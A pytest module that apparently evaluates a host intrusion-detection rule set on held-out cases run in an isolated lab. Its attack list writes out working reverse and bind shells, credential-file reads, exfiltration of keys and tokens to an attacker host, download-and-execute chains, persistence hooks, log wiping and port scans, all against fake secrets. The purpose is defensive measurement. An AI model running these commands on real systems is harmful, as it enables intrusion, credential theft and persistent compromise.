"""A held-out evaluation of detection (issue 13): techniques and ordinary work that are NOT in
the rule corpus (rules/tests), run live the way test_detection_live.py runs its cases (its
Host and Lab: the attacker in a network namespace of this machine, every case in a cgroup of
its own, the bundled rules on the live events and on the recorded trace).

The attacks come from public catalogues (GTFOBins reverse-shell, bind-shell, upload, download
and shell entries for programs on this host; Atomic Red Team's Linux tests for T1003.007,
T1046, T1048, T1053.006, T1070.006, T1105, T1546, T1547.013, T1552, T1574.006, T1611; the
PayloadsAllTheThings reverse-shell sheet), written here in this project's words and varied as
an attacker would vary them (other interpreters, renamed copies, ports 80/443 and odd ones,
relays through pipes, uid 0 and 1000). The benign side is developer work the benign corpus
does not hold.

Each attack must raise a rule of its family (known gaps, each with its reason, are strict
xfails: the day a rule catches one, the test says so); each benign case must raise nothing.
Measured first with the rules of main (the held-out figure), then the rules were improved by
behaviour and the traces added to the corpus (rules/tests/holdout.yaml). The module
prints a table by family (right family / any alert / missed) and the benign alerts when it
ends (pytest -s, or COI_HOLDOUT_REPORT=FILE to write it to a file). Run it without -n: the
probes are loaded once for the module. COI_HOLDOUT_TRACES=DIR keeps each case's trace there
as ho_NAME.jsonl.gz (how rules/tests/holdout.yaml's traces were made).
"""

from __future__ import annotations

import base64
import gzip
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

import pytest

from detection_lab import (AGENT_UID, NOBODY, PORTS, Board, Case, fake_home, open_lab,
                           run_case)

pytestmark = pytest.mark.bpf

HELPERS = Path(__file__).resolve().parents[2] / "rules" / "tests" / "helpers"


A = Case
ATTACKS = (
    # ---- reverse and bind shells ----------------------------------------------------------
    A("node_spawn_pipes_443", "reverse_shell",
      "timeout 20 node -e 'const sh=require(\"child_process\").spawn(\"/bin/sh\",[\"-i\"]);"
      "const c=require(\"net\").connect(443,process.env.HOST,()=>{c.pipe(sh.stdin);"
      "sh.stdout.pipe(c);sh.stderr.pipe(c)});sh.on(\"exit\",()=>process.exit(0));"
      "c.on(\"error\",()=>process.exit(0))' || true", ("node",)),
    A("node_bind_pipes_7201", "reverse_shell",
      "timeout 20 node -e 'const sh=require(\"child_process\").spawn(\"/bin/sh\");"
      "require(\"net\").createServer(c=>{c.pipe(sh.stdin);sh.stdout.pipe(c);"
      "sh.on(\"exit\",()=>process.exit(0))}).listen(7201,process.env.LOCAL)' || true",
      ("node",), dial=7201),   # shell_relayed_through_pipe_to_socket, at node's accept
    A("tclsh_exec_loop_80", "reverse_shell",
      "echo 'set s [socket $env(HOST) 80];while 1 {puts -nonewline $s \"> \";flush $s;"
      "if {[gets $s c]<0} break;if {$c eq \"exit\"} break;set e \"exec $c\";"
      "if {![catch {set r [eval $e]} err]} {puts $s $r};flush $s};close $s' | timeout 20 tclsh || true",
      ("tclsh",),
      gap="commands exec'd without a shell by an interpreter holding the socket, output through pipes"),
    A("php_proc_open_socket_8443", "reverse_shell",
      "timeout 20 php -r '$s=fsockopen(getenv(\"HOST\"),8443);"
      "$p=proc_open(\"/bin/sh -i\",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);' || true",
      ("php",)),
    A("ruby_spawn_socket_443_uid1000", "reverse_shell",
      "timeout 20 ruby -rsocket -e 'c=TCPSocket.new(ENV[\"HOST\"],443);"
      "pid=spawn(\"/bin/sh\",\"-i\",[:in,:out,:err]=>c);Process.wait(pid)' || true",
      ("ruby",), user=AGENT_UID),
    A("perl_fdopen_system_1337", "reverse_shell",
      "timeout 8 perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"$ENV{HOST}:1337\");"
      "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;' || true", ("perl",)),
    A("bash_dev_udp_4445", "reverse_shell",
      # an interactive sh ignores SIGTERM
      "timeout -s KILL 5 bash -c 'sh -i >& /dev/udp/$HOST/4445 0>&1' || true"),
    A("python_thread_relay_443", "reverse_shell",
      "timeout 20 python3 - <<'EOF' || true\n"
      "import os, socket, subprocess, threading\n"
      "s = socket.create_connection((os.environ['HOST'], 443))\n"
      "p = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE,\n"
      "                     stderr=subprocess.STDOUT)\n"
      "def up():\n"
      "    for chunk in iter(lambda: p.stdout.read1(4096), b''):\n"
      "        s.sendall(chunk)\n"
      "    s.shutdown(socket.SHUT_WR)\n"
      "threading.Thread(target=up, daemon=True).start()\n"
      "while (d := s.recv(4096)):\n"
      "    p.stdin.write(d)\n"
      "    p.stdin.flush()\n"
      "p.wait()\n"
      "EOF"),
    A("mknod_backpipe_nc_80", "reverse_shell",
      "rm -f /tmp/.bp$$; mknod /tmp/.bp$$ p; /bin/sh 0</tmp/.bp$$ | timeout 20 nc -N $HOST 80 "
      "1>/tmp/.bp$$; rm -f /tmp/.bp$$", ("nc",)),
    A("curl_telnet_fifo_443", "reverse_shell",
      "rm -f /tmp/.ct$$; mkfifo /tmp/.ct$$; timeout 12 curl -sN telnet://$HOST:443 </tmp/.ct$$ "
      "| /bin/sh >/tmp/.ct$$ 2>&1; rm -f /tmp/.ct$$", ("curl",)),   # shell_relayed_through_pipe_to_socket
    A("ncat_c_renamed_9001", "reverse_shell",
      "cp /usr/bin/ncat .cache/sysmon; timeout 20 .cache/sysmon $HOST 9001 -c 'sh -i' || true; "
      "rm -f .cache/sysmon", ("ncat",)),
    A("socat_bind_pty_7202", "reverse_shell",
      "timeout 20 socat TCP-LISTEN:7202,bind=$LOCAL,reuseaddr EXEC:'bash -li',pty,stderr,setsid,"
      "sigint,sane || true", ("socat",), dial=7202),
    A("busybox_telnetd_bind_7203", "reverse_shell",
      "timeout 10 busybox telnetd -F -p 7203 -b $LOCAL -l /bin/sh || true", ("busybox",), dial=7203),
    A("gdb_python_pty_443", "reverse_shell",
      "timeout 20 gdb -nx -batch -ex 'python import os,pty,socket;"
      "s=socket.create_connection((os.environ[\"HOST\"],443));"
      "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' || true", ("gdb",)),

    # ---- credential access ----------------------------------------------------------------
    A("process_vm_readv_heap", "credentials",
      "python3 - <<'EOF'\n"
      "import ctypes, subprocess, time\n"
      "v = subprocess.Popen(['python3', '-c', 'import time; k = \"sk-fake-0000\" * 8; time.sleep(20)'])\n"
      "time.sleep(0.5)\n"
      "start = next(int(l.split('-')[0], 16) for l in open(f'/proc/{v.pid}/maps') if '[heap]' in l)\n"
      "class Iov(ctypes.Structure):\n"
      "    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
      "buf = ctypes.create_string_buffer(65536)\n"
      "local, remote = Iov(ctypes.cast(buf, ctypes.c_void_p), 65536), Iov(start, 65536)\n"
      "libc = ctypes.CDLL(None, use_errno=True)\n"
      "print('read', libc.process_vm_readv(v.pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))\n"
      "v.kill()\n"
      "EOF"),
    A("gdb_attach_core_dump", "credentials",
      "sleep 20 & pid=$!; sleep 0.3; gdb -nx -batch -p $pid -ex 'generate-core-file /tmp/.core'$$ "
      "> /dev/null 2>&1; rm -f /tmp/.core$$; kill $pid", ("gdb",)),   # other_process_memory_dumped
    A("gnupg_private_keys_tar", "credentials",
      "tar cf - -C ~ .gnupg | gzip > /tmp/.g$$.tgz; rm -f /tmp/.g$$.tgz"),
    A("pgpass_mycnf_cat", "credentials", "cat ~/.pgpass ~/.my.cnf > /dev/null"),
    A("pypirc_cargo_token_uid1000", "credentials",
      "cat ~/.pypirc ~/.cargo/credentials.toml > /dev/null", user=AGENT_UID),
    A("vault_terraform_azure_python", "credentials",
      "python3 -c \"import os; [open(os.path.expanduser(p)).read() for p in "
      "('~/.vault-token', '~/.terraform.d/credentials.tfrc.json', '~/.azure/msal_token_cache.json')]\""),
    A("find_pem_keys_xargs", "credentials",
      "find ~ -type f \\( -name '*.pem' -o -name '*.key' \\) -print0 | xargs -0 cat > /dev/null"),
    A("nonstandard_ssh_key_renamed_dd", "credentials",
      "cp /bin/dd .cache/cpy; .cache/cpy if=$HOME/.ssh/deploy_prod of=/dev/null status=none; "
      "rm -f .cache/cpy",
      gap="reads are reported only for sensitive names; a key under another name is not seen"),

    # ---- exfiltration ---------------------------------------------------------------------
    A("node_http_post_key_443", "exfiltration",
      "node -e 'const fs=require(\"fs\"),os=require(\"os\");"
      "const b=fs.readFileSync(os.homedir()+\"/.ssh/id_ed25519\");"
      "const r=require(\"http\").request({host:process.env.HOST,port:443,method:\"POST\",path:\"/k\","
      "headers:{\"Content-Length\":b.length}},res=>res.resume());r.on(\"error\",()=>{});r.end(b)'",
      ("node",)),
    A("php_stream_post_aws_80", "exfiltration",
      "php -r '$d=file_get_contents(getenv(\"HOME\").\"/.aws/credentials\");"
      "$c=stream_context_create([\"http\"=>[\"method\"=>\"POST\",\"content\"=>$d,\"timeout\"=>5]]);"
      "@file_get_contents(\"http://\".getenv(\"HOST\").\":80/a\",false,$c);'", ("php",)),
    A("ruby_net_http_kube_8080_uid1000", "exfiltration",
      "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://#{ENV[\"HOST\"]}:8080/k\"),"
      "File.read(File.expand_path(\"~/.kube/config\")))' > /dev/null", ("ruby",), user=AGENT_UID),
    A("perl_io_socket_netrc_1337", "exfiltration",
      "perl -MIO::Socket::INET -e 'open(F,\"<\",\"$ENV{HOME}/.netrc\");local $/;$d=<F>;"
      "$s=IO::Socket::INET->new(\"$ENV{HOST}:1337\") or exit;print $s $d;close $s'", ("perl",)),
    A("nc_udp_key_5353", "exfiltration",
      "timeout 3 nc -u -w1 $HOST 5353 < ~/.ssh/id_ed25519 || true", ("nc",)),
    A("staged_gzip_curl_put_443", "exfiltration",
      "cp ~/.aws/credentials /tmp/.s$$; gzip -f /tmp/.s$$; "
      "curl -sS -m 5 -o /dev/null -T /tmp/.s$$.gz http://$HOST:443/up; rm -f /tmp/.s$$.gz", ("curl",)),
    A("curl_gopher_b64_443", "exfiltration",
      "curl -sS -m 3 -o /dev/null \"gopher://$HOST:443/_$(base64 -w0 ~/.git-credentials)\" || true",
      ("curl",)),
    A("openssl_enc_tar_nc_443", "exfiltration",
      "tar cf - -C ~ .aws | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x "
      "| timeout 10 nc -N $HOST 443 || true", ("openssl", "nc")),
    # (busybox wget's POST crashes in this build before it connects: its nc, then)
    A("busybox_nc_npmrc_80", "exfiltration",
      "timeout 5 busybox nc $HOST 80 < ~/.npmrc > /dev/null || true", ("busybox",)),
    A("python_udp_sendto_key", "exfiltration",
      "python3 - <<'EOF'\n"
      "import os, socket\n"
      "data = open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read()\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "for i in range(0, len(data), 64):\n"
      "    s.sendto(data[i:i + 64], (os.environ['HOST'], 4446))\n"
      "EOF"),

    # ---- persistence ----------------------------------------------------------------------
    A("python_pth_startup_hook", "persistence",
      "d=$(python3 -m site --user-site); mkdir -p \"$d\"; "
      "echo 'import os; os.system(\"id > /dev/null\")' > \"$d/zz_init.pth\""),
    A("usercustomize_uid1000", "persistence",
      "d=$(python3 -m site --user-site); mkdir -p \"$d\"; "
      "printf 'import os\\nos.system(\"id\")\\n' > \"$d/usercustomize.py\"", user=AGENT_UID),
    A("systemd_user_timer", "persistence",
      "mkdir -p ~/.config/systemd/user; "
      "printf '[Timer]\\nOnCalendar=*:0/5\\n[Install]\\nWantedBy=timers.target\\n' "
      "> ~/.config/systemd/user/sync.timer"),
    A("xdg_autostart_desktop", "persistence",
      "mkdir -p ~/.config/autostart; printf '[Desktop Entry]\\nType=Application\\nExec=sh -c id\\n' "
      "> ~/.config/autostart/updater.desktop"),
    A("ld_so_preload_nobody", "persistence",
      f"{NOBODY} sh -c 'echo /tmp/.l.so > /etc/ld.so.preload' 2>/dev/null || echo denied"),
    A("bash_profile_perl", "persistence",
      "perl -e 'open(F,\">>\",$ENV{HOME}.\"/.bash_profile\");print F \"sh -c id &\\n\"'", ("perl",)),
    A("vimrc_autocmd", "persistence", "echo 'autocmd VimEnter * silent !sh -c id' >> ~/.vimrc"),
    A("ssh_rc", "persistence", "echo 'sh -c id' > ~/.ssh/rc"),
    A("git_global_pager", "persistence",
      "git config --global core.pager 'sh -c \"id; cat\"'; git config --global --unset core.pager",
      ("git",)),
    A("udev_rule_nobody", "persistence",
      f"{NOBODY} sh -c 'echo RUN+=\\\"/tmp/.x\\\" > /etc/udev/rules.d/99-x.rules' 2>/dev/null "
      "|| echo denied"),
    A("motd_script_nobody", "persistence",
      f"{NOBODY} sh -c 'echo id > /etc/update-motd.d/99-x' 2>/dev/null || echo denied"),

    # ---- escalation and escape ------------------------------------------------------------
    A("nsenter_pid1", "escalation", "nsenter -t 1 -m -u -i -n -p sh -c id > /dev/null", ("nsenter",)),
    A("unshare_map_root_uid1000", "escalation", "unshare -r -n id > /dev/null 2>&1 || true",
      ("unshare",), user=AGENT_UID),
    A("perl_chmod_setuid", "escalation",
      "cp /usr/bin/perl .cache/p; perl -e 'chmod 04755, \".cache/p\"'; rm -f .cache/p", ("perl",)),
    A("modprobe_path_nobody", "escalation",
      f"{NOBODY} sh -c 'echo /tmp/.x > /proc/sys/kernel/modprobe' 2>/dev/null || echo denied"),
    A("strace_seize_sibling", "escalation",
      "sleep 20 & pid=$!; timeout 2 strace -p $pid -o /dev/null 2>/dev/null; kill $pid", ("strace",)),
    A("setcap_renamed", "escalation",
      "cp /usr/sbin/setcap .cache/sc; cp /usr/bin/true .cache/t; .cache/sc cap_net_raw+ep .cache/t; "
      "rm -f .cache/sc .cache/t", ("setcap",)),

    # ---- execution: download, decode, run -------------------------------------------------
    A("php_system_download", "execution",
      "php -r 'system(file_get_contents(getenv(\"ATK\").\"/run.sh\"));'", ("php",)),
    A("node_download_exec", "execution",
      "node -e 'const fs=require(\"fs\"),cp=require(\"child_process\");"
      "require(\"http\").get(process.env.ATK+\"/tool\",r=>{const f=fs.createWriteStream(\".cache/nd\");"
      "r.pipe(f);f.on(\"close\",()=>{fs.chmodSync(\".cache/nd\",0o755);"
      "cp.execFileSync(\"./.cache/nd\")})})'", ("node",)),
    A("curl_python_script_run", "execution",
      "curl -sSfo /tmp/.x$$.py $ATK/x.py; python3 /tmp/.x$$.py; rm -f /tmp/.x$$.py", ("curl",)),
    A("ld_preload_downloaded", "execution",
      "curl -sSfo .cache/libx.so $ATK/lib.so; LD_PRELOAD=$PWD/.cache/libx.so /bin/true", ("curl",)),
    A("wget_b64_decode_exec", "execution",
      "wget -qO- $ATK/payload.b64 | base64 -d > .cache/svc; chmod +x .cache/svc; .cache/svc",
      ("wget",)),
    A("renamed_busybox_wget_exec_uid1000", "execution",
      # busybox takes its applet from argv[1] only under a name starting with "busybox"
      "cp /bin/busybox .cache/busybox.upd; .cache/busybox.upd wget -q -O .cache/t $ATK/tool; "
      "chmod +x .cache/t; .cache/t", ("busybox",), user=AGENT_UID),
    A("curl_gzip_pipe_sh", "execution", "curl -sSf $ATK/run.sh.gz | gzip -d | sh", ("curl",)),
    A("python_downloaded_shell_string", "execution",
      "python3 -c \"import os,subprocess,urllib.request as u;"
      "subprocess.run(u.urlopen(os.environ['ATK']+'/run.sh').read().decode(),shell=True)\""),
    A("perl_http_tiny_eval", "execution",
      "perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(\"$ENV{ATK}/x.pl\")->{content}'", ("perl",)),
    A("socat_download_exec", "execution",
      "printf 'GET /tool HTTP/1.0\\r\\n\\r\\n' | timeout 5 socat - TCP:$HOST:80 | sed '1,/^\\r$/d' "
      "> .cache/sd; chmod +x .cache/sd; .cache/sd", ("socat",)),

    # ---- covering tracks ------------------------------------------------------------------
    A("touch_timestomp", "evasion",
      "touch .cache/implant; touch -r /etc/hostname .cache/implant; touch -d 2020-01-01 .cache/implant"),
    A("exec_a_kworker", "evasion", "bash -c 'exec -a \"[kworker/0:1]\" sleep 0.2'"),
    A("other_histories_rm", "evasion",
      "rm -f ~/.python_history ~/.lesshst ~/.viminfo ~/.psql_history ~/.mysql_history"),
    A("dmesg_clear_nobody", "evasion", f"{NOBODY} dmesg -C 2>/dev/null || echo denied"),
    A("journal_rm_nobody", "evasion", f"{NOBODY} rm -rf /var/log/journal 2>/dev/null || echo denied"),

    # ---- resource hijacking ---------------------------------------------------------------
    A("python_stratum_443", "resource",
      "python3 - <<'EOF'\n"
      "import json, os, socket, time\n"
      "s = socket.create_connection((os.environ['HOST'], 443), timeout=5)\n"
      "s.sendall(json.dumps({'id': 1, 'jsonrpc': '2.0', 'method': 'login', 'params': "
      "{'login': '4fake', 'pass': 'x', 'agent': 'py/1.0', 'algo': ['rx/0']}}).encode() + b'\\n')\n"
      "s.recv(4096)\n"
      "end = time.time() + 3\n"
      "while time.time() < end:\n"
      "    pass\n"
      "EOF",
      gap="no miner name, arguments or pool port: stratum is only in the payload"),
    A("miner_named_node_config_80", "resource",
      "cp $MINER .cache/node; printf '{\"pools\":[{\"url\":\"stratum+tcp://%s:80\"}]}' $HOST "
      "> .cache/c.json; .cache/node -c .cache/c.json; rm -f .cache/node"),

    # ---- network --------------------------------------------------------------------------
    A("nc_port_scan", "network",
      "for p in 21 22 23 25 110 139 445 3306 5432 6379 9200 11211; do "
      "timeout 1 nc -z -w1 $HOST $p 2>/dev/null; done; true", ("nc",)),   # network_port_sweep
    A("python_connect_scan", "network",
      "python3 -c \"import os,socket; h=os.environ['HOST']; "
      "print([p for p in range(1, 120) if socket.socket().connect_ex((h, p)) == 0])\""),
    A("metadata_decimal_ip_void", "network",
      "unshare -n curl -sS -m 2 http://2852039166/latest/meta-data/ 2>/dev/null || true",
      ("unshare", "curl")),
    A("metadata_ipv6_void", "network",
      "unshare -n python3 -c \"import socket; "
      "print(socket.socket(socket.AF_INET6).connect_ex(('fd00:ec2::254', 80)))\"", ("unshare",)),
)

B = Case
BENIGN = (
    # its own --basetemp: pytest's default one rotates /tmp/pytest-of-<user>, deleting the old
    # runs of whoever ran pytest here before (other tests' HOMEs, history files and all)
    B("pytest_tmp_path", "benign", f"bt=$(mktemp -d); {sys.executable} -m pytest -q -p no:cacheprovider "
      "--basetemp=$bt/t ht_tests > /dev/null; rm -rf $bt"),
    B("cargo_new_run_tmp", "benign",
      "d=$(mktemp -d); cd $d && RUSTUP_HOME=/root/.rustup CARGO_HOME=$HOME/.cargo "
      "/root/.cargo/bin/cargo new -q --vcs none app && cd app && RUSTUP_HOME=/root/.rustup "
      "CARGO_HOME=$HOME/.cargo /root/.cargo/bin/cargo run -q --offline; cd /; rm -rf $d",
      ("/root/.cargo/bin/cargo",)),
    B("go_mod_tmp_run", "benign",
      "d=$(mktemp -d); cd $d && go mod init example.test/app > /dev/null 2>&1 && "
      "printf 'package main\\nimport \"fmt\"\\nfunc main() { fmt.Println(1) }\\n' > main.go && "
      "GOFLAGS=-mod=mod GOPROXY=off go run . && go build -o app . && ./app; cd /; rm -rf $d",
      ("go",)),
    B("git_clone_file_bare", "benign",
      "git init -q --bare /tmp/h$$.git && git push -q /tmp/h$$.git HEAD:refs/heads/main && "
      "git clone -q file:///tmp/h$$.git /tmp/h$$-c && git -C /tmp/h$$-c log --oneline > /dev/null && "
      "git -C /tmp/h$$-c pull -q; rm -rf /tmp/h$$.git /tmp/h$$-c", ("git",)),
    B("pip_install_local_wheel", "benign",
      "python3 -m pip install -q --no-index --no-deps --target ./vendor dist/htdemo-0.1-py3-none-any.whl "
      "&& python3 -c 'import sys; sys.path.insert(0, \"vendor\"); import htdemo'; rm -rf vendor"),
    B("node_build_script", "benign", "node scripts/build.js && ls dist > /dev/null", ("node",)),
    B("tar_zip_workspace", "benign",
      "tar czf /tmp/ws$$.tgz . && zip -qr /tmp/ws$$.zip . && tar tzf /tmp/ws$$.tgz > /dev/null; "
      "rm -f /tmp/ws$$.tgz /tmp/ws$$.zip", ("zip",)),
    B("ssh_keygen_workspace_key", "benign",
      "mkdir -p deploy && ssh-keygen -q -t ed25519 -N '' -C ci -f deploy/id_ed25519 && "
      "ssh-keygen -l -f deploy/id_ed25519.pub > /dev/null && ssh-keygen -y -f deploy/id_ed25519 "
      "> /dev/null; rm -rf deploy", ("ssh-keygen",)),
    B("curl_local_dev_server", "benign",
      "python3 -m http.server 18765 --bind 127.0.0.1 > /dev/null 2>&1 & pid=$!; "
      "until curl -s -o /dev/null http://127.0.0.1:18765/; do sleep 0.1; done; "
      "curl -s -o /dev/null -X POST --data-binary @package.json http://127.0.0.1:18765/api; "
      "curl -s -o /dev/null -H 'Content-Type: application/json' -d '{\"a\":1}' http://127.0.0.1:18765/; "
      "kill $pid; wait $pid || true", ("curl",)),
    B("sqlite3_app_db", "benign",
      "sqlite3 app.db 'create table t(a); insert into t values (1); select count(*) from t;' > /dev/null && "
      "sqlite3 app.db .dump > dump.sql; rm -f app.db dump.sql", ("sqlite3",)),
    B("edit_project_dotfiles", "benign",
      "printf 'root = true\\n' > .editorconfig; echo 'node_modules/' >> .gitignore; "
      "echo '{}' > .prettierrc.json; echo 20 > .nvmrc; echo 3.11 > .python-version; "
      "sed -i 's/node_modules/node_modules/' .gitignore; "
      "python3 -c \"open('.eslintrc.json', 'w').write('{}')\"; git status --short > /dev/null", ("git",)),
    B("gcc_shared_lib_preload_tmp", "benign",
      "d=$(mktemp -d); printf 'int f(void){return 1;}\\n' > $d/l.c; "
      "gcc -shared -fPIC -o $d/libl.so $d/l.c && "
      "printf 'int main(void){return 0;}\\n' > $d/m.c && gcc -o $d/m $d/m.c && "
      "LD_PRELOAD=$d/libl.so $d/m && LD_LIBRARY_PATH=$d $d/m; rm -rf $d", ("gcc",)),
    B("gdb_own_program", "benign",
      "d=$(mktemp -d); printf 'int main(void){return 0;}\\n' > $d/m.c; gcc -g -o $d/m $d/m.c && "
      "gdb -nx -batch -ex run -ex bt $d/m > /dev/null 2>&1; rm -rf $d", ("gdb", "gcc")),
    B("strace_own_command", "benign", "strace -f -o /dev/null ls > /dev/null", ("strace",)),
    B("openssl_dev_cert", "benign",
      "mkdir -p certs && openssl req -x509 -newkey rsa:2048 -nodes -keyout certs/dev.key "
      "-out certs/dev.crt -days 1 -subj /CN=localhost 2>/dev/null && "
      "openssl x509 -noout -subject -in certs/dev.crt > /dev/null; rm -rf certs", ("openssl",)),
    B("proc_listing", "benign",
      "ls -l /proc/[0-9]*/fd > /dev/null 2>&1; cat /proc/[0-9]*/stat > /dev/null 2>&1; "
      "pgrep -af python > /dev/null; cat /proc/loadavg > /dev/null; true"),
    B("readiness_probe_local", "benign",
      "python3 -m http.server 18766 --bind 127.0.0.1 > /dev/null 2>&1 & pid=$!; "
      "until nc -z 127.0.0.1 18766; do sleep 0.1; done; bash -c 'echo > /dev/tcp/127.0.0.1/18766'; "
      "kill $pid; wait $pid || true", ("nc",)),
    B("python_shell_pipeline", "benign",
      "python3 -c \"import subprocess; subprocess.run('git log --oneline | head -1', shell=True, "
      "check=True)\" > /dev/null; find . -name '*.md' -exec grep -l project {} + > /dev/null; "
      "find . -type f -not -path './.git/*' | xargs sha256sum > /dev/null", ("git",)),
)

HOME_FILES = {
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZQ==\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/deploy_prod": "-----BEGIN RSA PRIVATE KEY-----\nZmFrZQ==\n-----END RSA PRIVATE KEY-----\n",
    ".aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
    ".kube/config": "apiVersion: v1\nusers:\n- name: x\n  user:\n    token: fake\n",
    ".netrc": "machine git.example.com login a password fake\n",
    ".git-credentials": "https://a:fake@git.example.com\n",
    ".npmrc": "//registry.npmjs.org/:_authToken=npm_FakeHoldoutToken\n",
    ".gnupg/private-keys-v1.d/0123ABCD.key": "(private-key (rsa (n #00#)))\n",
    ".pgpass": "db.example.com:5432:*:app:fake\n",
    ".my.cnf": "[client]\npassword=fake\n",
    ".pypirc": "[pypi]\nusername = __token__\npassword = pypi-fake\n",
    ".cargo/credentials.toml": "[registry]\ntoken = \"fake\"\n",
    ".vault-token": "hvs.fake\n",
    ".terraform.d/credentials.tfrc.json":
        "{\"credentials\": {\"app.terraform.io\": {\"token\": \"fake\"}}}\n",
    ".azure/msal_token_cache.json": "{\"AccessToken\": {}}\n",
    ".config/app/tls/server.key": "-----BEGIN PRIVATE KEY-----\nZmFrZQ==\n-----END PRIVATE KEY-----\n",
    ".python_history": "import os\n", ".lesshst": ".less-history-file:\n", ".viminfo": "# viminfo\n",
    ".psql_history": "select 1;\n", ".mysql_history": "select 1;\n",
    "project/README.md": "# project\n",
    "project/.env.test": "API_KEY=test\n",
    "project/.env.example": "API_KEY=\n",
    "project/.gitignore": "vendor/\n",
    "project/package.json": "{\"name\": \"app\", \"version\": \"1.0.0\", "
                            "\"scripts\": {\"build\": \"node scripts/build.js\"}}\n",
    "project/src/index.js": "module.exports = () => 1;\n",
    "project/scripts/build.js": (
        "const fs = require('fs'), cp = require('child_process');\n"
        "fs.mkdirSync('dist', {recursive: true});\n"
        "const rev = cp.execFileSync('git', ['rev-parse', '--short', 'HEAD']).toString().trim();\n"
        "fs.writeFileSync('dist/index.js', `// ${rev}\\n` + fs.readFileSync('src/index.js'));\n"),
    "project/ht_tests/test_tmp.py": (
        "import os, subprocess\n\n"
        "def test_script_in_tmp_path(tmp_path):\n"
        "    p = tmp_path / 'helper.sh'\n"
        "    p.write_text('#!/bin/sh\\necho ok\\n')\n"
        "    p.chmod(0o755)\n"
        "    assert subprocess.run([str(p)], capture_output=True, text=True).stdout == 'ok\\n'\n\n"
        "def test_files(tmp_path):\n"
        "    (tmp_path / 'a.txt').write_text('x')\n"
        "    assert os.listdir(tmp_path) == ['a.txt']\n"),
}


def _wheel(dist: Path) -> None:
    """A minimal pure-python wheel, made with zipfile (no build backend, no network)."""
    import zipfile
    info = "htdemo-0.1.dist-info"
    files = {"htdemo/__init__.py": "VALUE = 1\n",
             f"{info}/METADATA": "Metadata-Version: 2.1\nName: htdemo\nVersion: 0.1\n",
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: holdout\nRoot-Is-Purelib: true\n"
                              "Tag: py3-none-any\n"}
    files[f"{info}/RECORD"] = "".join(f"{n},,\n" for n in files) + f"{info}/RECORD,,\n"
    dist.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(dist / "htdemo-0.1-py3-none-any.whl", "w") as z:
        for name, text in files.items():
            z.writestr(name, text)


@pytest.fixture(scope="module")
def board(request):
    b = Board()
    yield b
    b.report(request, "held-out detection")


def _attacker_files(www: Path) -> None:
    """What the held-out attacks download, besides "tool" and "run.sh"."""
    (www / "run.sh.gz").write_bytes(gzip.compress(b"echo payload ran\n"))
    (www / "x.py").write_text("print('payload ran')\n")
    (www / "x.pl").write_text("print \"payload ran\\n\";\n")
    (www / "payload.b64").write_bytes(base64.encodebytes(Path("/bin/true").read_bytes()))
    if shutil.which("gcc"):
        (www.parent / "lib.c").write_text("int holdout_lib(void) { return 1; }\n")
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(www / "lib.so"),
                        str(www.parent / "lib.c")], check=True)


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc (the miner lookalike and a preload library are compiled)")
    root = tmp_path_factory.mktemp("holdout")
    with open_lab(root, "coi-holdout", PORTS + (8080, 9001), _attacker_files) as lb:
        subprocess.run(["gcc", "-O2", "-o", str(root / "miner"), str(HELPERS / "miner.c")], check=True)
        lb.miner = root / "miner"
        yield lb


@pytest.fixture
def home():
    """A fake home with fake secrets and a small git project, traversable by uid 1000."""
    top = Path(tempfile.mkdtemp(prefix="coi-holdout-"))
    top.chmod(0o755)
    try:
        (top / "project" / ".cache").mkdir(parents=True)
        _wheel(top / "project" / "dist")
        yield fake_home(top, HOME_FILES)
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _run(lab, home: Path, case: Case) -> Counter:
    return run_case(lab, home, case, "ho")


@pytest.mark.parametrize("case", ATTACKS, ids=[c.name for c in ATTACKS])
def test_heldout_attack_raises_its_family(lab, home, board, case, request):
    if case.gap:
        request.node.add_marker(pytest.mark.xfail(reason=f"known gap: {case.gap}", strict=True))
    live = _run(lab, home, case)
    families = {lab.family(r) for r in live}
    board.add(case, families, live)
    assert case.family in families, dict(live)


@pytest.mark.parametrize("case", BENIGN, ids=[c.name for c in BENIGN])
def test_heldout_ordinary_work_raises_nothing(lab, home, board, case):
    live = _run(lab, home, case)
    board.add(case, set(), live)
    assert live == Counter(), dict(live)
